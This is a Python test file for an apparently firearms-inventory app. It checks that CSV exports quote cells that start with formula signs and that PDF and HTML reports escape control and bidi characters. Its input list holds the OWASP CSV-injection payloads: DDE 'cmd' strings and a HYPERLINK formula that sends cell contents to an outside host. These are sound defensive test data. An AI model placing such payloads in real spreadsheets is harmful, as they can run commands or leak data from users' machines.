"""Reports show whatever people typed as text, on both backends: the bound-book CSV opens
in a spreadsheet without running a formula, the PDF and HTML dossiers carry long words and
any character without failing."""

from __future__ import annotations

import csv
import io
import re

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from coldcheck.domain import commands as c
from coldcheck.domain.values import ItemKind
from coldcheck.reports import boundbook, dossier, render
from coldcheck.reports.text import visible
from coldcheck.service import ColdCheck
from support import pdfs
from support.service_db import PID

# The OWASP examples of CSV injection, and the two characters it adds to the four signs.
FORMULAS = [
    '=HYPERLINK("https://example.invalid/?"&A1,"Error")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
SIGNS = ("=", "+", "-", "@", "\t", "\r")


def _bound_book(app: ColdCheck) -> list[dict[str, str]]:
    text = boundbook.to_csv(boundbook.rows(app.records(PID), app.state(PID).timezone))
    return list(csv.DictReader(io.StringIO(text)))


def _register(app: ColdCheck, item_id: str, text: str) -> None:
    app.execute(
        PID,
        c.RegisterItem(
            actor="rosa",
            item_id=item_id,
            kind=ItemKind.FIREARM,
            serial=text,
            tag=item_id,
            description=text,
            location_id="truck-safe",
            chambers=1,
            caliber=text,
            manufacturer=text,
            model=text,
            source=text,
            importer=text,
        ),
    )


def test_bound_book_cells_that_a_spreadsheet_would_run_are_quoted(planned: ColdCheck) -> None:
    for n, formula in enumerate(FORMULAS):
        _register(planned, f"odd-{n}", formula)
        planned.execute(PID, c.DisposeItem(actor="rosa", item_id=f"odd-{n}", transferee=formula))
    rows = {row["item_id"]: row for row in _bound_book(planned)}
    for n, formula in enumerate(FORMULAS):
        row = rows[f"odd-{n}"]
        typed = {
            k: v
            for k, v in row.items()
            if k
            not in (
                "item_id",
                "acquisition_date",
                "disposition_date",
                "type",
                "acquisition_event",
                "disposition_event",
                "acquisition_reference",  # none: not a rental
                "disposition_reference",
            )
        }
        assert len(typed) == 7  # source, manufacturer, importer, model, serial, …
        for field, cell in typed.items():
            assert cell == "'" + visible(formula), (field, cell)


def test_bound_book_keeps_ordinary_text_as_typed(planned: ColdCheck) -> None:
    _register(planned, "plain-1", 'Colt, 1873 "Peacemaker"\nSanta Fe, NM')
    row = next(r for r in _bound_book(planned) if r["item_id"] == "plain-1")
    assert row["serial_number"] == 'Colt, 1873 "Peacemaker"\nSanta Fe, NM'


@settings(
    max_examples=30, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(text=st.text(st.characters(exclude_categories=["Cs"]), min_size=1, max_size=40))
def test_no_bound_book_cell_starts_a_formula_or_holds_a_control(
    planned: ColdCheck, text: str
) -> None:
    item_id = f"any-{len(planned.state(PID).items)}"
    _register(planned, item_id, text)
    row = next(r for r in _bound_book(planned) if r["item_id"] == item_id)
    for cell in row.values():
        assert not cell.startswith(SIGNS), cell
        assert visible(cell) == cell
    quote = "'" if text.startswith(SIGNS) else ""
    assert row["serial_number"] == quote + visible(text)


@pytest.mark.parametrize("text", ["-", "@", "="])
def test_a_lone_sign_is_quoted_too(planned: ColdCheck, text: str) -> None:
    _register(planned, "sign-1", text)
    row = next(r for r in _bound_book(planned) if r["item_id"] == "sign-1")
    assert row["serial_number"] == "'" + text


# -- dossiers ---------------------------------------------------------------------------

LONG_WORD = "W" * 1990 + "abcdefghij"  # one word of 2,000 characters, most of them wide
LONGEST_WORD = "abcdefghij" * 399  # as long a word as a text may be (with "long:  end")
ANY_SCRIPT = "gun \U0001f52b 中文 עברית العربية wipe \x1b[2J \u202eevil [/bold] <b>"


def _concern_dossier(app: ColdCheck, word: str = LONG_WORD) -> dossier.Dossier:
    for text in (f"long: {word} end", ANY_SCRIPT):
        app.execute(PID, c.RaiseConcern(actor="jack", text=text))
    return dossier.build(app, PID)


@pytest.mark.parametrize("word", [LONG_WORD, LONGEST_WORD], ids=["2000", "3990"])
def test_pdf_dossier_wraps_a_word_of_thousands_of_characters(planned: ColdCheck, word: str) -> None:
    data = pdfs.dossier_pdf(planned, _concern_dossier(planned, word))
    assert data.startswith(b"%PDF-")
    assert data.rstrip().endswith(b"%%EOF")
    # The word is drawn whole, line after line, and on over the next page (under the
    # table's headings again and its event number), for a row is never taller than a
    # page: on every page the lines of W between the heading row and the foot, joined.
    line = re.compile(r"^(?:#\d+ )?(?:.*long: )?([Wa-j]+)(?: end'?)?$", re.M)
    drawn = "".join("".join(line.findall(page)) for page in pdfs.pages(data))
    assert word in drawn


def test_pdf_dossier_prints_any_script_and_spells_out_controls(planned: ColdCheck) -> None:
    drawn = pdfs.text(pdfs.dossier_pdf(planned, _concern_dossier(planned)))
    for shown in ("中文", "\\x1b[2J", "\\u202eevil", "[/bold] <b>"):
        assert shown in drawn, shown
    assert "\x1b" not in drawn
    assert "\u202e" not in drawn


def test_html_dossier_escapes_and_spells_out_what_was_typed(planned: ColdCheck) -> None:
    page = render.html(_concern_dossier(planned))
    assert LONG_WORD in page
    assert "overflow-wrap: anywhere" in page
    assert "gun \U0001f52b 中文 עברית العربية wipe \\x1b[2J \\u202eevil [/bold] &lt;b&gt;" in page
    assert "\x1b" not in page
    assert "\u202e" not in page


@settings(
    max_examples=10, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(text=st.text(st.characters(exclude_categories=["Cs"]), min_size=1, max_size=200))
def test_any_text_makes_a_pdf_and_a_page(planned: ColdCheck, text: str) -> None:
    planned.execute(PID, c.RaiseConcern(actor="jack", text="x" + text))
    d = dossier.build(planned, PID)
    assert pdfs.dossier_pdf(planned, d).startswith(b"%PDF-")
    assert "\x1b" not in render.html(d)
